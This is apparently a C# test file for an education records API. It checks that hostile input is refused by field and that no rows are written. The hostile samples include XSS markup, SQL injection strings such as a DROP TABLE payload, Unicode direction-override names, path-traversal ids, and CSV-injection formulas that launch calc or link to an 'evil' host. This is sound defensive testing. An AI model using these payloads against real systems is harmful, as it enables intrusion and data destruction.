            ["entryId"] = $"\"entryId\":\"{Guid.NewGuid()}\"", ["studentId"] = $"\"studentId\":\"{t.Roster[0]}\"",
            ["subjectId"] = $"\"subjectId\":\"{t.SubjectId}\"", ["term"] = "\"term\":2", ["ground"] = "\"ground\":\"medical\"",
            ["reason"] = "\"reason\":\"Медициналық қорытынды\"",
        };
        fields[field[1..field.IndexOf('"', 1)]] = field.Replace("LONG", new string('а', 10_000)).Replace("{OTHER}", other.Roster[0]);
        var rows = await api.Db.ScalarAsync<long>("SELECT count(*) FROM journal");
        var response = await api.Http.SendJsonAsync(HttpMethod.Post, $"/api/v1/classes/{t.ClassId}/exemptions",
            actor: $"user=hostile-head; roles=head@{organization}", acceptLanguage: "en", rawBody: "{" + string.Join(',', fields.Values) + "}");
        Assert.True(response.Status == 400, $"{because}: expected 400, got {response.Status} {response.Body}");
        Assert.Equal(LocalizedType(type), response.Body.GetProperty("type").GetString());
        if (error is not null)
        {
            Assert.True(Errors(response.Body).SequenceEqual([error]), $"{because}: expected [{error}], got [{string.Join(", ", Errors(response.Body))}]");
        }
        Assert.DoesNotContain("<script>", response.Body.ToString(), StringComparison.OrdinalIgnoreCase);
        Assert.Equal(rows, await api.Db.ScalarAsync<long>("SELECT count(*) FROM journal"));
    }

    private static string LocalizedType(string type) => "https://eduinfo.kz/problems/" + type;

    private static string[] Errors(System.Text.Json.JsonElement problem) =>
        problem.TryGetProperty("errors", out var list)
            ? list.EnumerateArray().Select(e => $"{e.GetProperty("field").GetString()}:{e.GetProperty("code").GetString()}").ToArray()
            : [];

    private async Task AssertRefusedAsync(string because, string endpoint, string body, string type, string error)
    {
        var t = api.Registry.InClass(1);
        var other = api.Registry.InClass(2);
        body = body.Replace("{S}", t.Roster[0]).Replace("{J}", t.SubjectId).Replace("{OTHER}", other.Roster[0]);
        var rows = await api.Db.ScalarAsync<long>("SELECT count(*) FROM journal");
        var response = await api.Http.SendJsonAsync(HttpMethod.Post, $"/api/v1/classes/{t.ClassId}/{endpoint}",
            actor: $"user={t.TeacherId}; roles=teacher", acceptLanguage: "en", rawBody: body);
        Assert.True(response.Status == 400, $"{because}: expected 400, got {response.Status} {response.Body}");
        Assert.Equal("application/problem+json", response.ContentType);
        Assert.True(LocalizedType(type) == response.Body.GetProperty("type").GetString(), $"{because}: expected the problem type {type}, got {response.Body}");
        Assert.Equal(EnglishTitles[type], response.Body.GetProperty("title").GetString());
        Assert.Equal("en", response.Body.GetProperty("language").GetString());
        // Unreadable bodies and invalid entries alike: errors of {field, code, message}, never a bare top-level field.
        Assert.False(response.Body.TryGetProperty("field", out _), $"{because}: {response.Body}");
        var errors = response.Body.TryGetProperty("errors", out var list) ? list.EnumerateArray().ToList() : [];
        Assert.All(errors, e => Assert.False(string.IsNullOrEmpty(e.GetProperty("code").GetString()) || string.IsNullOrEmpty(e.GetProperty("message").GetString())));
        // Exactly the one error the case is about, with its code: a refusal for another reason is not this refusal.
        var named = Errors(response.Body);
        Assert.True(named.SequenceEqual([error]), $"{because}: expected [{error}], the problem names [{string.Join(", ", named)}]");
        Assert.Equal(rows, await api.Db.ScalarAsync<long>("SELECT count(*) FROM journal"));
    }

    /// <summary>
    /// Issue 18: hiring with names in every script people write them in is done; a bidirectional override, a zero-width
    /// joiner, a control character or markup in a name, an IIN with a bad checksum or junk in the post is refused by
    /// field, localized, and no member of staff is written for it.
    /// </summary>
    [Theory]
    [InlineData("Kazakh Cyrillic", "Жұмабекова", "Әйгерім", 201, null)]
    [InlineData("Russian", "Кузнецова-Ли", "Ольга", 201, null)]
    [InlineData("Kazakh Latin", "Jumabekova", "Äigerım", 201, null)]
    [InlineData("apostrophe", "O'Neil", "Dana", 201, null)]
    [InlineData("right-to-left override", "\u202EавонеП", "Ольга", 400, "lastName:nameInvalid")]
    [InlineData("zero-width joiner", "Пет\u200Dрова", "Ольга", 400, "lastName:nameInvalid")]
    [InlineData("control character", "Петрова", "Оль\u0007га", 400, "firstName:nameInvalid")]
    [InlineData("markup", "<script>alert(1)</script>", "Ольга", 400, "lastName:nameInvalid")]
    [InlineData("bad IIN checksum", "Петрова", "Ольга", 400, "iin:iinInvalid")]
    [InlineData("junk post", "Петрова", "Ольга", 400, "post:postUnknown")]
    public async Task Hostile_staff_names_iins_and_posts_are_refused_by_field(string because, string lastName, string firstName, int status, string? error)
    {
        var organization = api.Registry.Data.Organizations.First(o => o.Kind == "school").Id;
        var iin = StaffWorld.NewIin();
        var sent = because == "bad IIN checksum" ? iin[..11] + (char)('0' + ((iin[11] - '0' + 1) % 10)) : iin;
        var response = await api.Http.PostJsonAsync($"/api/v1/organizations/{organization}/staff", new
        {
            iin = sent, lastName, firstName, post = because == "junk post" ? "'; DROP TABLE teachers; --" : "teacher", hiredOn = "2026-09-01",
        }, "user=op; roles=operator@KZ", "en");
        Assert.True(response.Status == status, $"{because}: expected {status}, got {response.Status} {response.Body}");
        if (error is not null)
        {
            Assert.Equal(EnglishTitles[Validation], response.Body.GetProperty("title").GetString());
            Assert.True(Errors(response.Body).SequenceEqual([error]), $"{because}: the problem names [{string.Join(", ", Errors(response.Body))}]");
        }
        Assert.Equal(status == 201 ? 1 : 0, await api.Db.ScalarAsync<long>("SELECT count(*) FROM teachers WHERE iin = @i", ("i", sent)));
    }

    [Theory]
    [InlineData("/desk/%3Cscript%3Ealert(1)%3C%2Fscript%3E/staff", 404)]
    [InlineData("/desk/'%20OR%201=1/classes", 404)]
    [InlineData("/desk/{org}/staff?notice=refused&error=%3Cscript%3Ealert(1)%3C%2Fscript%3E&rows=%3Cscript%3E", 200)]
    [InlineData("/desk/{org}/classes?notice=refused&error=journalConflict&rows=1,%22%3E%3Cscript%3Ealert(1),3", 200)]
    [InlineData("/desk/{org}/staff?notice=%00", 200)]
    public async Task Hostile_addresses_of_the_staff_pages_are_not_found_or_show_nothing_of_them(string path, int status)
    {
        var organization = api.Registry.Data.Organizations.First(o => o.Kind == "school").Id;
        using var request = new HttpRequestMessage(HttpMethod.Get, path.Replace("{org}", organization));
        request.Headers.Add(HttpExtensions.ActorHeader, "user=op; roles=operator@KZ");
        using var response = await api.Http.SendAsync(request);
        var text = await response.Content.ReadAsStringAsync();
        Assert.True((int)response.StatusCode == status, $"{path}: expected {status}, got {(int)response.StatusCode}");
        Assert.DoesNotContain("<script>alert", text, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("\"><script", text, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("/desk/{org}/year-end?classId=%3Cscript%3Ealert(1)%3C%2Fscript%3E", 200)]
    [InlineData("/desk/{org}/year-end?notice=refused&error=%3Cscript%3Ealert(1)%3C%2Fscript%3E&a=%3Cscript%3Ealert(1)", 200)]
    [InlineData("/desk/{org}/year-end?notice=refused&error=DocumentMarksMissing&a=%22%3E%3Cscript%3Ealert(1)", 200)]
    [InlineData("/desk/{org}/year-end?notice=issued&n=%3Cscript%3E", 200)]
    [InlineData("/desk/{org}/documents/%3Cscript%3Ealert(1)%3C%2Fscript%3E", 404)]
    [InlineData("/desk/{org}/documents/00000000-0000-0000-0000-000000000000", 404)]
    [InlineData("/verify?code=%3Cscript%3Ealert(1)%3C%2Fscript%3E", 200)]
    [InlineData("/verify/'%20OR%201=1%20--", 200)]
    [InlineData("/verify?code=%E2%80%AE0123456789ABCDEFGHJKMNPQRSTVWXYZ", 200)]
    [InlineData("/verify?code=0123-4567-89AB-CDEF-GHJK-MNPQ-RSTV-WXYZ", 200)]
    public async Task Hostile_addresses_of_the_year_end_pages_are_refused_or_show_nothing_of_them(string path, int status)
    {
        var organization = api.Registry.Data.Organizations.First(o => o.Kind == "school").Id;
        using var request = new HttpRequestMessage(HttpMethod.Get, path.Replace("{org}", organization));
        request.Headers.Add(HttpExtensions.ActorHeader, $"user=h; roles=head@{organization}");
        using var response = await api.Http.SendAsync(request);
        var text = await response.Content.ReadAsStringAsync();
        Assert.True((int)response.StatusCode == status, $"{path}: expected {status}, got {(int)response.StatusCode}");
        Assert.DoesNotContain("<script>alert", text, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("\"><script", text, StringComparison.OrdinalIgnoreCase);
    }

    /// <summary>
    /// Opening an organization (issue 18): names that would display as something else, ids that are no ids (they go in
    /// addresses), an id already used by a node, a kind the node does not manage and junk dates are each refused naming
    /// the field; nothing is opened.
    /// </summary>
    [Theory]
    [InlineData("a right-to-left override in the name", "\"nameEn\":\"School \\u202Egnp.exe\"", 400, Validation, "nameEn:nameInvalid")]
    [InlineData("a bidirectional isolate in the name", "\"nameRu\":\"Школа \\u2067№ 1\\u2069\"", 400, Validation, "nameRu:nameInvalid")]
    [InlineData("a zero-width joiner in the name", "\"nameKk\":\"Мек\\u200Dтеп\"", 400, Validation, "nameKk:nameInvalid")]
    [InlineData("an id with a path in it", "\"id\":\"../../KZ\"", 400, Validation, "id:idInvalid")]
    [InlineData("an id with markup", "\"id\":\"<script>alert(1)</script>\"", 400, Validation, "id:idInvalid")]
    [InlineData("SQL injection as the id", "\"id\":\"x'); DROP TABLE organizations; --\"", 400, Validation, "id:idInvalid")]
    [InlineData("an id 65 characters long", "\"id\":\"{LONG}\"", 400, Validation, "id:idInvalid")]
    [InlineData("the id of the republic", "\"id\":\"KZ\"", 409, "organization-conflict", "id:idTaken")]
    [InlineData("a college under a district", "\"kind\":\"college\"", 400, Validation, "kind:kindNotUnderNode")]
    [InlineData("an opening day as garbage", "\"openedOn\":\"yesterday\"", 400, Malformed, null)]
    [InlineData("an opening day tomorrow", "\"openedOn\":\"2026-11-28\"", 400, Validation, "openedOn:dateInFuture")]
    [InlineData("isRural a string", "\"isRural\":\"yes\"", 400, Malformed, null)]
    public async Task Hostile_openings_are_refused_with_the_field_named_and_open_nothing(string because, string field, int status, string type, string? error)
    {
        var district = api.Registry.Data.Nodes.First(n => n.Kind == "district").Id;
        var fields = new Dictionary<string, string>
        {
            ["id"] = "\"HOSTILE-OPEN\"", ["nameKk"] = "\"Мектеп\"", ["nameRu"] = "\"Школа\"", ["nameEn"] = "\"School\"", ["languages"] = "[\"kk\"]",
            ["kind"] = "\"school\"", ["isRural"] = "false", ["openedOn"] = "\"2026-11-02\"",
        };
        var name = field[1..field.IndexOf('"', 1)];
        fields[name] = field[(field.IndexOf(':') + 1)..].Replace("{LONG}", new string('a', 65));
        var body = "{" + string.Join(",", fields.Select(f => $"\"{f.Key}\":{f.Value}")) + "}";
        var before = await api.Db.ScalarAsync<long>("SELECT count(*) FROM organizations");
        var response = await api.Http.SendJsonAsync(HttpMethod.Post, $"/api/v1/nodes/{district}/organizations", actor: "user=op; roles=operator@KZ",
            acceptLanguage: "en", rawBody: body);
        Assert.True(response.Status == status, $"{because}: expected {status}, got {response.Status} {response.Body}");
        Assert.Equal(LocalizedType(type), response.Body.GetProperty("type").GetString());
        if (error is not null)
        {
            Assert.Equal([error], Errors(response.Body));
        }
        Assert.Equal(before, await api.Db.ScalarAsync<long>("SELECT count(*) FROM organizations"));
    }

    /// <summary>Closing an organization: unknown or malformed ids are not found, garbage dates and modes are refused by field; nothing closes.</summary>
    [Theory]
    [InlineData("/api/v1/organizations/NO-SUCH-ORG/closing", "{\"date\":\"2026-11-27\",\"reason\":\"x\",\"pupils\":\"end\"}", 404, "not-found", null)]
    [InlineData("/api/v1/organizations/%3Cscript%3E/closing", "{\"date\":\"2026-11-27\",\"reason\":\"x\",\"pupils\":\"end\"}", 404, "not-found", null)]
    [InlineData("/api/v1/organizations/{org}/closing", "{\"date\":\"last Friday\",\"reason\":\"x\",\"pupils\":\"end\"}", 400, Malformed, null)]
    [InlineData("/api/v1/organizations/{org}/closing", "{\"date\":\"2026-02-30\",\"reason\":\"x\",\"pupils\":\"end\"}", 400, Malformed, null)]
    [InlineData("/api/v1/organizations/{org}/closing", "{\"date\":\"2026-11-28\",\"reason\":\"x\",\"pupils\":\"end\"}", 400, Validation, "date:dateInFuture")]
    [InlineData("/api/v1/organizations/{org}/closing", "{\"date\":\"2026-11-27\",\"reason\":\"x\",\"pupils\":\"expel\"}", 400, Validation, "pupils:pupilsUnknown")]
    [InlineData("/api/v1/organizations/{org}/closing", "{\"date\":\"2026-11-27\",\"reason\":\"\\u0000\",\"pupils\":\"end\"}", 400, Validation, "reason:reasonTooLong")]
    [InlineData("/api/v1/organizations/{org}/closing", "{\"date\":\"2026-11-26\",\"reason\":\"x\",\"pupils\":\"transfer\",\"transfers\":[{\"fromClassId\":\"' OR 1=1\",\"toClassId\":\"x\"}]}", 400, Validation, null)]
    [InlineData("/api/v1/nodes/%3Cscript%3E/organizations", "{}", 404, "not-found", null)]
    public async Task Hostile_closings_are_refused_and_close_nothing(string path, string body, int status, string type, string? error)
    {
        var organization = api.Registry.Data.Organizations.First(o => o.Kind == "school").Id;
        var response = await api.Http.SendJsonAsync(HttpMethod.Post, path.Replace("{org}", organization), actor: "user=op; roles=operator@KZ", acceptLanguage: "en",
            rawBody: body);
        Assert.True(response.Status == status, $"{path} {body}: expected {status}, got {response.Status} {response.Body}");
        Assert.Equal(LocalizedType(type), response.Body.GetProperty("type").GetString());
        if (error is not null)
        {
            Assert.Equal([error], Errors(response.Body));
        }
        Assert.Equal(0, await api.Db.ScalarAsync<long>("SELECT count(*) FROM organizations WHERE closed_on IS NOT NULL"));
        Assert.DoesNotContain("<script>", response.Body.ToString(), StringComparison.Ordinal);
    }

    /// <summary>
    /// Hostile files of pupils (issue 18, item 4): each refused with its localized problem — 422 naming the line and
    /// field, 413 over the size, 415 for another body — and no pupil written. A formula is a value like any other: the
    /// rules refuse it as a name or an IIN, and nothing of it is evaluated or stored.
    /// </summary>
    [Theory]
    [InlineData("a formula as a last name (CSV injection)", 422, "3:last_name:nameInvalid")]
    [InlineData("a formula as an IIN", 422, "3:iin:iinInvalid")]
    [InlineData("a formula as a class", 422, "3:class_id:classNotInOrganization")]
    [InlineData("a quoted name with a comma and quotes", 422, "3:last_name:nameInvalid")]
    [InlineData("a quote never closed", 422, "3:file:unterminatedQuote")]
    [InlineData("a misplaced quote", 422, "3:file:badQuote")]
    [InlineData("UTF-16 with a byte order mark", 422, "1:file:invalidEncoding")]
    [InlineData("UTF-16 without a byte order mark", 422, "1:file:invalidEncoding")]
    [InlineData("Windows-1251", 422, "2:file:invalidEncoding")]
    [InlineData("a file of 600 KB", 413, null)]
    [InlineData("2001 rows", 422, "0:file:tooManyRows")]
    [InlineData("an unknown column", 422, "1:file:unknownColumn")]
    [InlineData("a missing column", 422, "1:file:missingColumn")]
    [InlineData("a header only", 422, "1:file:noRows")]
    [InlineData("an empty body", 422, "1:file:emptyFile")]
    [InlineData("a row of too many values", 422, "3:row:fieldCount")]
    [InlineData("JSON instead of CSV", 415, null)]
    public async Task A_hostile_file_of_pupils_is_refused_by_line_and_writes_nobody(string because, int status, string? error)
    {
        var t = api.Registry.InSchoolClass(2);
        var organization = api.Registry.Data.Classes.Single(c => c.Id == t.ClassId).OrganizationId;
        string Good() => PupilImportApiTests.Row(t.ClassId);
        var iin = PupilApiTests.FreshIin();
        var text = because switch
        {
            "a formula as a last name (CSV injection)" => [Good(), PupilImportApiTests.Row(t.ClassId, last: "=cmd|' /C calc'!A0")],
            "a formula as an IIN" => [Good(), PupilImportApiTests.Row(t.ClassId, iin).Replace(iin, "=1+1")],
            "a formula as a class" => [Good(), PupilImportApiTests.Row("\"=HYPERLINK(\"\"http://evil\"\")\"")],
            "a quoted name with a comma and quotes" => [Good(), PupilImportApiTests.Row(t.ClassId, last: "\"Сәрсен, \"\"баев\"\"\"")],
            "a quote never closed" => [Good(), PupilImportApiTests.Row(t.ClassId, last: "\"Сәрсенбаев")],
            "a misplaced quote" => [Good(), PupilImportApiTests.Row(t.ClassId, last: "Сәрсен\"баев")],
            "2001 rows" => Enumerable.Range(0, 2001).Select(_ => Good()).ToArray(),
            "a row of too many values" => [Good(), Good() + ",x"],
            "a header only" => [],
            _ => new[] { Good(), Good() },
        };
        var csv = string.Join("\n", text.Prepend(because switch
        {
            "an unknown column" => PupilImportApiTests.Header + ",admin",
            "a missing column" => PupilImportApiTests.Header.Replace(",birth_date", ""),
            _ => PupilImportApiTests.Header,
        })) + "\n";
        var file = because switch
        {
            "UTF-16 with a byte order mark" => System.Text.Encoding.Unicode.GetPreamble().Concat(System.Text.Encoding.Unicode.GetBytes(csv)).ToArray(),
            "UTF-16 without a byte order mark" => System.Text.Encoding.Unicode.GetBytes(csv),
            "Windows-1251" => System.Text.Encoding.Latin1.GetBytes(PupilImportApiTests.Header + "\n").Concat(new byte[] { 0xD1, 0xE0, 0xF0, 0x2C }).ToArray(),
            "a file of 600 KB" => System.Text.Encoding.UTF8.GetBytes(csv + new string('x', 600 * 1024)),
            "an empty body" => [],
            _ => System.Text.Encoding.UTF8.GetBytes(csv),
        };
        var students = await api.Db.ScalarAsync<long>("SELECT count(*) FROM students");

        var (answered, body) = await PupilImportApiTests.UploadAsync(api.Http, organization, file, $"user=hostile-head; roles=head@{organization}",
            because == "JSON instead of CSV" ? "application/json" : "text/csv");

        Assert.True(answered == status, $"{because}: expected {status}, got {answered} {body}");
        Assert.Equal("en", body.GetProperty("language").GetString());
        Assert.False(string.IsNullOrEmpty(body.GetProperty("title").GetString()));
        if (error is not null)
        {
            Assert.True(PupilImportApiTests.Errors(body).SequenceEqual([error]), $"{because}: the problem names [{string.Join(", ", PupilImportApiTests.Errors(body))}]");
        }
        Assert.DoesNotContain(iin, body.ToString());
        Assert.Equal(students, await api.Db.ScalarAsync<long>("SELECT count(*) FROM students"));
    }

    /// <summary>What the pupils page shows of an upload comes from its address: only known message keys, no markup, no other texts.</summary>
    [Theory]
    [InlineData("?upload=refused&e=3|last_name|pupil.error.NameInvalid|%3Cscript%3Ealert(1)%3C%2Fscript%3E&more=1", "data-line=\"3\"")]
    [InlineData("?upload=refused&e=2|iin|problem.internal.detail&e=%3Cscript%3E|x|y&more=-4", "data-upload=\"refused\"")]
    [InlineData("?upload=refused&e=2|iin|pupil.error.AlreadyEnrolled&e=2|iin|pupil.error.JournalRowsAfterDate|1", "data-line=\"2\"")]
    [InlineData("?upload=done&count=%3Cscript%3E", "data-upload=\"done\"")]
    [InlineData("?upload=%00&e=%00", "import-title")]
    public async Task Hostile_addresses_of_the_upload_notice_show_nothing_of_theirs(string query, string shown)
    {
        var organization = api.Registry.Data.Organizations.First(o => o.Kind == "school").Id;
        using var request = new HttpRequestMessage(HttpMethod.Get, $"/desk/{organization}/pupils{query}");
        request.Headers.Add(HttpExtensions.ActorHeader, "user=op; roles=operator@KZ");
        using var response = await api.Http.SendAsync(request);
        var text = await response.Content.ReadAsStringAsync();
        Assert.Equal(200, (int)response.StatusCode);
        Assert.Contains(shown, text);
        Assert.DoesNotContain("<script>alert", text, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("An unexpected error", text, StringComparison.Ordinal);
    }

    /// <summary>
    /// A breakdown's query (issue 19): a dimension that is not one of the six (any case, a number, an injection, a NUL, a
    /// cross-product), a missing one, and a term out of range are each a localized 400 naming the field; the page shows
    /// the first dimension instead of such a one (as it ignores a bad term) and never echoes it.
    /// </summary>
    [Theory]
    [InlineData("", "dimension:required", "locality")]
    [InlineData("dimension=Sex", "dimension:dimensionUnknown", "locality")]
    [InlineData("dimension=1", "dimension:dimensionUnknown", "locality")]
    [InlineData("dimension=sex,grade", "dimension:dimensionUnknown", "locality")]
    [InlineData("dimension=%27%20OR%201=1", "dimension:dimensionUnknown", "locality")]
    [InlineData("dimension=%00", "dimension:dimensionUnknown", "locality")]
    [InlineData("dimension=sex&term=0", "term:termOutOfRange", "sex")]
    [InlineData("dimension=grade&term=99", "term:termOutOfRange", "grade")]
    [InlineData("dimension=grade&term=-1", "term:termOutOfRange", "grade")]
    [InlineData("dimension=grade&term=1e1", "term:termOutOfRange", "grade")]
    [InlineData("dimension=%3Cscript%3E&term=%3Cscript%3E", "dimension:dimensionUnknown,term:termOutOfRange", "locality")]
    public async Task Hostile_breakdown_queries_are_refused_by_field(string query, string errors, string shown)
    {
        var node = api.Registry.Data.Nodes.First(n => n.Kind == "district").Id;
        var response = await api.Http.GetJsonAsync($"/api/v1/nodes/{node}/breakdowns?{query}", HttpExtensions.Analyst, acceptLanguage: "ru");
        Assert.True(response.Status == 400, $"{query}: expected 400, got {response.Status} {response.Body}");
        Assert.Equal("application/problem+json", response.ContentType);
        Assert.Equal(LocalizedType(Validation), response.Body.GetProperty("type").GetString());
        Assert.Equal(errors, string.Join(",", Errors(response.Body).Order(StringComparer.Ordinal)));
        Assert.All(response.Body.GetProperty("errors").EnumerateArray(), e => Assert.False(string.IsNullOrEmpty(e.GetProperty("message").GetString())));
        Assert.Equal("ru", response.Body.GetProperty("language").GetString());

        using var page = new HttpRequestMessage(HttpMethod.Get, $"/nodes/{node}?{query}");
        page.Headers.Add(HttpExtensions.ActorHeader, HttpExtensions.Analyst);
        using var answer = await api.Http.SendAsync(page);
        var html = await answer.Content.ReadAsStringAsync();
        Assert.Equal(200, (int)answer.StatusCode);
        Assert.Contains($"data-breakdown=\"{shown}\"", html, StringComparison.Ordinal); // a dimension it names, else the first
        Assert.DoesNotContain("<script>", html[html.IndexOf("<body", StringComparison.Ordinal)..], StringComparison.OrdinalIgnoreCase);
    }

    /// <summary>
    /// The opening and closing forms (issue 18), posted by the district's officer with a valid token: names that would
    /// display as something else, ids that are no ids and an id already taken come back to the page as its refusal naming
    /// the field (shown there in the reader's language); a date that is no date is a localized 400, an area or organization
    /// that is no id or unknown a 404, another district's a 403. Nothing opens or closes.
    /// </summary>
    [Theory]
    [InlineData("a right-to-left override in the name", "open", "nameEn", "School \u202Egnp.exe", 303, "error=nameEn:NameInvalid")]
    [InlineData("a bidirectional isolate in the name", "open", "nameRu", "Школа \u2067№ 1\u2069", 303, "error=nameRu:NameInvalid")]
    [InlineData("an id with a path in it", "open", "id", "../../KZ", 303, "error=id:IdInvalid")]
    [InlineData("an id with markup", "open", "id", "<script>alert(1)</script>", 303, "error=id:IdInvalid")]
    [InlineData("the id of the republic", "open", "id", "KZ", 303, "error=id:IdTaken")]
    [InlineData("a college under a district", "open", "kind", "college", 303, "error=kind:KindNotUnderNode")]
    [InlineData("an opening day as garbage", "open", "openedOn", "yesterday", 400, "openedOn:dateInvalid")]
    [InlineData("an opening day that does not exist", "open", "openedOn", "2026-02-30", 400, "openedOn:dateInvalid")]
    [InlineData("an area that is no id", "open:%3Cscript%3E", null, null, 404, "not-found")]
    [InlineData("another district", "open:OTHER", null, null, 403, "forbidden")]
    [InlineData("a last day as garbage", "close", "date", "last Friday", 400, "date:dateInvalid")]
    [InlineData("a last day tomorrow", "close", "date", "2026-11-28", 303, "problem=date:DateInFuture")]
    [InlineData("pupils neither ended nor moved", "close", "pupils", "expel", 303, "problem=pupils:PupilsUnknown")]
    [InlineData("a move from a class that is no class", "close", "transfer", "' OR 1=1>x", 303, "problem=class:' OR 1=1:ClassUnknown")]
    [InlineData("an organization that is no id", "close:%3Cscript%3E", null, null, 404, "not-found")]
    [InlineData("an unknown organization", "close:NO-SUCH-ORG", null, null, 404, "not-found")]
    [InlineData("another district's school", "close:OTHER", null, null, 403, "forbidden")]
    public async Task Hostile_opening_and_closing_forms_are_refused_and_open_or_close_nothing(string because, string form, string? field, string? value,
        int status, string expected)
    {
        var officer = api.Registry.Credentials.Single(c => c.Login == "district.officer");
        var school = api.Registry.Data.Organizations.First(o => o.NodeId == officer.ScopeId && o.Kind == "school").Id;
        var otherDistrict = api.Registry.Data.Nodes.First(n => n.Kind == "district" && n.Id != officer.ScopeId).Id;
        var otherSchool = api.Registry.Data.Organizations.First(o => o.NodeId == otherDistrict && o.Kind == "school").Id;
        var (action, target) = (form.Split(':')[0], form.Contains(':') ? form.Split(':', 2)[1] : null);
        var fields = action == "open"
            ? new Dictionary<string, string?>
            {
                ["id"] = "HOSTILE-FORM", ["nameKk"] = "Мектеп", ["nameRu"] = "Школа", ["nameEn"] = "School", ["languages"] = "kk", ["kind"] = "school",
                ["locality"] = "urban", ["openedOn"] = "2026-11-02",
            }
            : new Dictionary<string, string?> { ["date"] = "2026-11-27", ["reason"] = "x", ["pupils"] = field == "transfer" ? "transfer" : "end" };
        if (field is not null)
        {
            fields[field] = value;
        }
        var path = action == "open"
            ? $"/nodes/{(target == "OTHER" ? otherDistrict : target ?? officer.ScopeId)}/organizations"
            : $"/organizations/{(target == "OTHER" ? otherSchool : target ?? school)}/closing";
        var (organizations, closed) = (await api.Db.ScalarAsync<long>("SELECT count(*) FROM organizations"),
            await api.Db.ScalarAsync<long>("SELECT count(*) FROM organizations WHERE closed_on IS NOT NULL"));

        using var browser = new Security.BrowserClient(api);
        await browser.SignInAsync("district.officer", "demo-district-officer");
        Assert.NotNull(browser.Session);
        fields[EduInfo.Api.Security.ApiAntiforgery.FormFieldName] = browser.FormToken("U-district.officer");
        var response = await browser.PostFormAsync(path, fields);

        Assert.True(response.Status == status, $"{because}: expected {status}, got {response.Status} {response.Location} {response.Body}");
        if (status == 303)
        {
            // Back to the page with the refusal's field and code; the page shows it (and nothing of the sender's text).
            var location = Uri.UnescapeDataString(response.Location!);
            Assert.Contains(expected, location, StringComparison.Ordinal);
            Assert.Contains("=refused", location, StringComparison.Ordinal);
            var page = await browser.SendAsync(HttpMethod.Get, response.Location!);
            Assert.Equal(200, page.Status);
            Assert.Contains(action == "open" ? "data-notice=\"refused\"" : "data-closing=\"refused\"", page.Body, StringComparison.Ordinal);
            Assert.DoesNotContain("<script>alert", page.Body, StringComparison.Ordinal);
        }
        else
        {
            Assert.Equal("application/problem+json", response.ContentType);
            Assert.Equal(LocalizedType(status == 400 ? Validation : expected), response.Json.GetProperty("type").GetString());
            if (status == 400)
            {
                Assert.Equal([expected], Errors(response.Json));
                Assert.Equal(EnglishTitles[Validation], response.Json.GetProperty("title").GetString());
            }
        }
        Assert.Equal(organizations, await api.Db.ScalarAsync<long>("SELECT count(*) FROM organizations"));
        Assert.Equal(closed, await api.Db.ScalarAsync<long>("SELECT count(*) FROM organizations WHERE closed_on IS NOT NULL"));
    }

    /// <summary>
    /// The early-warning list's term (issue 19): missing, out of range, not a number or an injection is a localized 400
    /// naming term, before the access check (no audit row); a term the class's calendar lacks is a 404. Never a 5xx.
    /// </summary>
    [Theory]
    [InlineData("", 400, "term:required")]
    [InlineData("?term=0", 400, "term:termOutOfRange")]
    [InlineData("?term=99", 400, "term:termOutOfRange")]
    [InlineData("?term=-1%20OR%201=1", 400, "term:termOutOfRange")]
    [InlineData("?term=%3Cscript%3Ealert(1)%3C%2Fscript%3E", 400, "term:termOutOfRange")]
    [InlineData("?term=%D9%A2", 400, "term:termOutOfRange")]
    [InlineData("?term=6", 404, null)]
    public async Task Hostile_warning_terms_are_refused_by_field(string query, int status, string? errors)
    {
        var t = api.Registry.InClass(1);
        var organization = api.Registry.Data.Classes.Single(c => c.Id == t.ClassId).OrganizationId;
        var audited = await api.Db.ScalarAsync<long>("SELECT count(*) FROM audit_log WHERE action = 'class.warnings.read'");
        using var request = new HttpRequestMessage(HttpMethod.Get, $"/api/v1/classes/{t.ClassId}/warnings{query}");
        request.Headers.Add(HttpExtensions.ActorHeader, $"user=hostile-head; roles=head@{organization}");
        request.Headers.AcceptLanguage.ParseAdd("en");
        using var response = await api.Http.SendAsync(request);
        var body = await response.Content.ReadAsStringAsync();

        Assert.True((int)response.StatusCode == status, $"{query}: expected {status}, got {(int)response.StatusCode} {body}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        Assert.DoesNotContain("<script>", body, StringComparison.OrdinalIgnoreCase);
        if (errors is not null)
        {
            var problem = System.Text.Json.JsonDocument.Parse(body).RootElement;
            Assert.Equal(LocalizedType(Validation), problem.GetProperty("type").GetString());
            Assert.Equal(errors, string.Join(",", Errors(problem)));
            Assert.Equal(audited, await api.Db.ScalarAsync<long>("SELECT count(*) FROM audit_log WHERE action = 'class.warnings.read'"));
        }
    }

    /// <summary>
    /// The area signals' queries (issue 19): grade inflation's bad term is a localized 400 naming it; completeness falling
    /// takes no filter; for both a class or an organization is no area; junk elsewhere changes nothing.
    /// </summary>
    [Theory]
    [InlineData("inflation", "KZ", "term=99", "term:termOutOfRange")]
    [InlineData("inflation", "KZ", "term=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "term:termOutOfRange")]
    [InlineData("inflation", "KZ", "term=-1%20OR%201=1", "term:termOutOfRange")]
    [InlineData("inflation", "CLASS", "term=2", "nodeId:notArea")]
    [InlineData("inflation", "KZ", "lang=%3Cscript%3E&subjectId=%27%20OR%201=1", null)]
    [InlineData("completeness", "CLASS", "", "nodeId:notArea")]
    [InlineData("completeness", "ORGANIZATION", "term=2", "nodeId:notArea")]
    [InlineData("completeness", "KZ", "term=%3Cscript%3Ealert(1)%3C%2Fscript%3E&lang=%3Cscript%3E", null)]
    [InlineData("completeness", "KZ", "subjectId=%27%20OR%201=1--&metric=%00", null)]
    public async Task Hostile_signal_queries_are_refused_by_field(string signal, string node, string query, string? errors)
    {
        var id = node switch
        {
            "CLASS" => api.Registry.InClass(0).ClassId,
            "ORGANIZATION" => api.Registry.Data.Organizations[0].Id,
            _ => node,
        };
        var response = await api.Http.GetJsonAsync($"/api/v1/nodes/{id}/signals/{signal}?{query}", HttpExtensions.Analyst, "en");
        if (errors is null)
        {
            Assert.Equal(200, response.Status);
            Assert.DoesNotContain("<script>", response.Body.ToString(), StringComparison.OrdinalIgnoreCase);
            return;
        }
        Assert.True(response.Status == 400, $"{query}: {response.Status} {response.Body}");
        Assert.Equal(LocalizedType(Validation), response.Body.GetProperty("type").GetString());
        Assert.Equal(errors, string.Join(",", Errors(response.Body)));
    }
}
